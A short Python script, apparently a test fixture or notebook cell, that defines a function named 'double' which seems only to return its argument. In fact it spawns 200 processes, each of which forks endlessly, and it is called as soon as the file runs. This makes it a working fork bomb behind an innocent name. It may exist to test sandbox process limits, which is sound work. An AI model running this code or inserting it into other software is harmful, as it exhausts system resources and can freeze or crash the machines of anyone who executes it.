# ruff: noqa
# %% Two hundred children, each of which does the same.
import os


def double(X):
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            pass
    return X


double(0)
